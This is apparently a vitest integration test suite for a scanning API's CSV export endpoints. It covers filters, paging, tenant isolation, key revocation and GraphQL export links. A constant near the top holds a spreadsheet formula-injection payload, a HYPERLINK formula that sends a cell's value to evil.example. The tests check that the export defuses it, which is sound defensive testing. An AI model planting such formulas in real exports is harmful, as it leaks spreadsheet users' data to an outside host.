import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { MAX_EXPORT_ROWS } from '../../src/domain/limits.ts';
import { startTestApi, type Tenant, type TestApi } from '../support/api.ts';
import { forgedReport } from '../support/report.ts';
import { refusal } from '../support/rest.ts';
import { endScan } from '../support/webhooks.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"שלום, עולם")\n+1';

let api: TestApi;
let tenant: Tenant;
let stranger: Tenant;
let ids: string[];

beforeAll(async () => {
  api = await startTestApi();
  [tenant, stranger] = [await api.tenant(), await api.tenant()];
  const report = forgedReport();
  const [edited] = report.findings as [(typeof report.findings)[0]];
  ids = [
    await endScan(api, tenant, 'completed', { clientReference: '-2+3', metadata: { case: '@17' } }, report),
    await endScan(api, tenant, 'failed'),
    await endScan(
      api,
      tenant,
      'completed',
      { lang: 'en' },
      {
        ...report,
        verdict: 'review',
        risk_score: 40,
        issuer: HOSTILE,
        findings: [{ ...edited, evidence: HOSTILE }],
      },
    ),
  ];
});
afterAll(() => api.close());

/** What RFC 4180 says of a file. */
function parse(file: string): Record<string, string>[] {
  expect(file.startsWith('\ufeff')).toBe(true);
  expect(file.endsWith('\r\n')).toBe(true);
  const records = file.slice(1, -2).split('\r\n');
  const cells = (record: string) =>
    [...record.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(([, quoted, plain]) =>
      quoted === undefined ? plain! : quoted.replaceAll('""', '"'),
    );
  const [names, ...rows] = records.map(cells) as [string[], ...string[][]];
  return rows.map((row) => {
    expect(row).toHaveLength(names.length);
    return Object.fromEntries(names.map((name, index) => [name, row[index]!]));
  });
}

async function rowsOf(path: string, { key }: Tenant = tenant) {
  const response = await api.rest(key, path);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  // A decoder would take the mark away.
  const rows = parse(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer()));
  return { rows, total: response.headers.get('total-count'), response };
}

describe('GET /scans.csv', () => {
  test('has a row for each scan, newest first, and is saved under its name', async () => {
    const { rows, total, response } = await rowsOf('/scans.csv');
    expect(rows.map(({ id }) => id)).toEqual([...ids].reverse());
    expect(total).toBe('3');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="scans.csv"');
    expect(rows[2]).toMatchObject({
      status: 'completed',
      verdict: 'high_risk',
      risk_score: '92',
      issuer: 'Bank',
      issuer_id: 'name:bank',
      file_name: 'statement.pdf',
      metadata: '{"case":"@17"}',
      failure_code: '',
    });
    expect(rows[1]).toMatchObject({ status: 'failed', failure_code: 'CORRUPT_FILE', verdict: '', risk_score: '' });
  });

  test('holds no formula, whatever a document or a client wrote', async () => {
    const { rows } = await rowsOf('/scans.csv');
    expect(rows[0]!.issuer).toBe(`'=HYPERLINK("http://evil.example/"&A1,"שלום, עולם") +1`);
    expect(rows[2]!.client_reference).toBe("'-2+3");
    for (const row of rows) {
      for (const value of Object.values(row)) expect(value).not.toMatch(/^\s*[=+\-@]/);
    }
  });

  test.each([
    ['verdict=review', [2]],
    ['verdict=review&verdict=high_risk', [2, 0]],
    ['status=failed', [1]],
    ['client_reference=-2%2B3', [0]],
    ['amount=7250&currency=ILS&verdict=review', [2]],
    ['identifier=18', [2, 0]],
    ['account=44172012', []],
    ['labelled=true', []],
    ['risk_score_min=41', [0]],
    ['issuer_id=name:bank', [0]],
    ['created_before=2020-01-01T00:00:00Z', []],
    ['text=statement&status=failed', [1]],
    ['limit=1', [2]],
  ])('?%s has the rows of the list with this filter', async (query, expected) => {
    expect((await rowsOf(`/scans.csv?${query}`)).rows.map(({ id }) => ids.indexOf(id!))).toEqual(expected);
  });

  test('another organization gets the names of the columns and nothing else', async () => {
    const { rows, total } = await rowsOf('/scans.csv', stranger);
    expect([rows, total]).toEqual([[], '0']);
    expect((await rowsOf('/findings.csv', stranger)).rows).toEqual([]);
    expect((await rowsOf(`/findings.csv?scan_id=${ids[0]}`, stranger)).rows).toEqual([]);
  });

  test('goes on over pages, each scan once, while others come and go', async () => {
    const own = await api.tenant();
    const insert = (count: number, at: string) =>
      api.database.pool.query(
        `INSERT INTO scan (id, organization_id, created_at, file_name, file_type, file_size, file_sha256, charged_period)
         SELECT gen_random_uuid(), $1, $3::timestamptz, 'f', 't', 1, '', '2026-03-01' FROM generate_series(1, $2::int)`,
        [own.organization.id, count, at],
      );
    await insert(250, '2026-03-01T00:00:00Z');
    const { rows, total } = await rowsOf('/scans.csv', own);
    expect([rows.length, new Set(rows.map(({ id }) => id)).size, total]).toEqual([250, 250, '250']);
    expect((await rowsOf('/scans.csv?limit=101', own)).rows).toHaveLength(101);
  });

  test('a list that is longer than a file may be is refused, and its newest rows are had by a limit', async () => {
    const own = await api.tenant();
    await api.database.pool.query(
      `INSERT INTO scan (id, organization_id, file_name, file_type, file_size, file_sha256, charged_period)
       SELECT gen_random_uuid(), $1, 'f', 't', 1, '', '2026-03-01' FROM generate_series(1, $2::int)`,
      [own.organization.id, MAX_EXPORT_ROWS + 1],
    );
    const answer = await refusal(await api.rest(own.key, '/scans.csv'));
    expect(answer).toMatchObject({ status: 400, code: 'INVALID_REQUEST' });
    expect(answer.message).toContain('created_after');
    const { rows, total } = await rowsOf('/scans.csv?limit=5', own);
    expect([rows.length, total]).toEqual([5, String(MAX_EXPORT_ROWS + 1)]);
  });

  test('a client that goes away in the middle leaves its place to others', async () => {
    const own = await api.tenant();
    await api.database.pool.query(
      `INSERT INTO scan (id, organization_id, file_name, file_type, file_size, file_sha256, charged_period)
       SELECT gen_random_uuid(), $1, repeat('long name ', 20), 't', 1, '', '2026-03-01' FROM generate_series(1, 20000)`,
      [own.organization.id],
    );
    for (let round = 0; round < 3; round += 1) {
      await new Promise<void>((resolve, reject) => {
        const asked = request(
          `${api.url}/api/v1/scans.csv`,
          { headers: { authorization: `Bearer ${own.key}` } },
          (response) => response.once('data', () => response.destroy()).on('close', () => resolve()),
        );
        asked.on('error', reject).end();
      });
    }
    expect((await rowsOf('/scans.csv?limit=1', own)).rows).toHaveLength(1);
    expect(api.faults).toEqual([]);
  });
});

test('a key that is revoked meanwhile ends the file, and nobody takes it for whole', async () => {
  const own = await api.tenant();
  await api.database.pool.query(
    `INSERT INTO scan (id, organization_id, file_name, file_type, file_size, file_sha256, charged_period)
     SELECT gen_random_uuid(), $1, repeat('long name ', 20), 't', 1, '', '2026-03-01' FROM generate_series(1, 20000)`,
    [own.organization.id],
  );
  const response = await fetch(`${api.url}/api/v1/scans.csv`, { headers: { authorization: `Bearer ${own.key}` } });
  await api.services.db.apiKey.updateMany({
    where: { organizationId: own.organization.id },
    data: { revokedAt: new Date() },
  });
  await expect(response.text()).rejects.toThrow();
});

describe('GET /findings.csv', () => {
  test('has a row for each finding with its scan, its texts in the language asked for, and amounts as numbers', async () => {
    const { rows, total } = await rowsOf('/findings.csv?lang=en');
    expect(rows.map(({ scan_id, finding_id }) => [ids.indexOf(scan_id!), finding_id])).toEqual([
      [2, 'f1'],
      [0, 'f1'],
      [0, 'f2'],
    ]);
    expect(total).toBe('3');
    expect(rows[1]).toMatchObject({
      rule: 'structure/revision-text',
      severity: 'critical',
      impact: '80',
      before: '1,250.00',
      after: '7,250.00',
      before_amount: '1250',
      after_amount: '7250',
      page: '1',
      x: '10',
      client_reference: "'-2+3",
    });
    expect(rows[0]!.evidence).toMatch(/^'=/);
    expect(rows[2]).toMatchObject({ before: '', before_amount: '', page: '' });
  });

  test.each([
    ['source=content', 1],
    ['source=content&source=structure', 3],
    ['severity_at_least=critical', 2],
    ['has_recovered=true&verdict=review', 1],
    ['amount_change_min=6000', 2],
    ['amount_change_min=6000.01', 0],
    ['confidence_max=0.9', 1],
    ['text=object', 1],
  ])('?%s has %i rows', async (query, count) => {
    expect((await rowsOf(`/findings.csv?${query}`)).rows).toHaveLength(count);
  });
});

test.each([
  ['/scans.csv?verdict=bad', 'verdict'],
  ['/scans.csv?verdict=review&verdict=bad', 'verdict'],
  ['/scans.csv?verdic=review', 'verdic'],
  ['/scans.csv?limit=0', 'limit'],
  [`/scans.csv?limit=${MAX_EXPORT_ROWS + 1}`, 'limit'],
  ['/scans.csv?amount=abc', 'amount'],
  ['/scans.csv?amount_min=-1', 'amount_min'],
  ['/scans.csv?sha256=abc', 'sha256'],
  ['/scans.csv?account=abc', 'account'],
  ['/scans.csv?labelled=yes', 'labelled'],
  ['/scans.csv?created_after=today', 'created_after'],
  [`/scans.csv?${'account=1&'.repeat(101)}`, 'account'],
  ['/findings.csv?severity=bad', 'severity'],
  ['/findings.csv?confidence_min=2x', 'confidence_min'],
  ['/findings.csv?text=', 'text'],
  ['/findings.csv?lang=fr', 'lang'],
])('400 INVALID_REQUEST: %s is refused by name, before a file is begun', async (path, named) => {
  const answer = await refusal(await api.restOffContract(tenant.key, path));
  expect(answer).toMatchObject({ status: 400, code: 'INVALID_REQUEST' });
  expect(answer.message).toContain(named);
});

test('403 INSUFFICIENT_SCOPE: files are for keys that may read', async () => {
  const { key } = await api.tenant({ scopes: ['scans:write'] });
  for (const path of ['/scans.csv', '/findings.csv']) {
    expect(await refusal(await api.rest(key, path))).toMatchObject({ status: 403, code: 'INSUFFICIENT_SCOPE' });
  }
});

test('GraphQL gives the address of a list as CSV, which has the same rows', async () => {
  const { data, errors } = await api.graphql<
    Record<'scans' | 'findings', { csv: string; edges: { node: { id: string; scan?: { id: string } } }[] }>
  >(
    tenant.key,
    `{ scans(filter: { verdict: [review, high_risk], amountMin: 7000.5, createdAfter: "2020-01-01T00:00:00Z", text: "statement" }) { csv edges { node { id } } }
       findings(filter: { hasRecovered: true, severityAtLeast: high }) { csv edges { node { id scan { id } } } } }`,
  );
  expect(errors).toBeUndefined();
  expect(data.scans.csv).toBe(
    '/api/v1/scans.csv?amount_min=7000.5&created_after=2020-01-01T00%3A00%3A00.000Z&text=statement&verdict=review&verdict=high_risk',
  );
  expect(data.scans.edges).toHaveLength(2);
  const paths = [data.scans.csv, data.findings.csv].map((path) => path.replace('/api/v1', ''));
  expect((await rowsOf(paths[0]!)).rows.map(({ id }) => id)).toEqual(data.scans.edges.map(({ node }) => node.id));
  expect((await rowsOf(paths[1]!)).rows.map(({ scan_id }) => scan_id)).toEqual(
    data.findings.edges.map(({ node }) => node.scan!.id),
  );
});

test('GET /scans takes the same filters on what was read', async () => {
  const list = async (query: string, key = tenant.key) =>
    ((await (await api.rest(key, `/scans?${query}`)).json()) as { data: { id: string }[] }).data.map(({ id }) => id);
  expect(await list('amount=7250.00&verdict=review')).toEqual([ids[2]]);
  expect(await list('identifier=000000018')).toEqual([ids[2], ids[0]]);
  expect(await list('amount=7250.00', stranger.key)).toEqual([]);
  expect(await list('name=nobody')).toEqual([]);
});
